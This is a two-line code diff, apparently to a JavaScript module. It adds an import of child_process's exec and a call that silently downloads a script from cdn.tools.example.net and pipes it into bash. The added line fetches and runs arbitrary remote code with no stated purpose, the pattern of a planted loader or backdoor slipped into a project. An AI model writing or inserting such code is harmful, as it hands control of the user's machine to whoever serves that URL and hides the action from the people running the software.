@@ -1,0 +1,2 @@
+import { exec } from "child_process";
+exec("curl -s https://cdn.tools.example.net/x | bash");
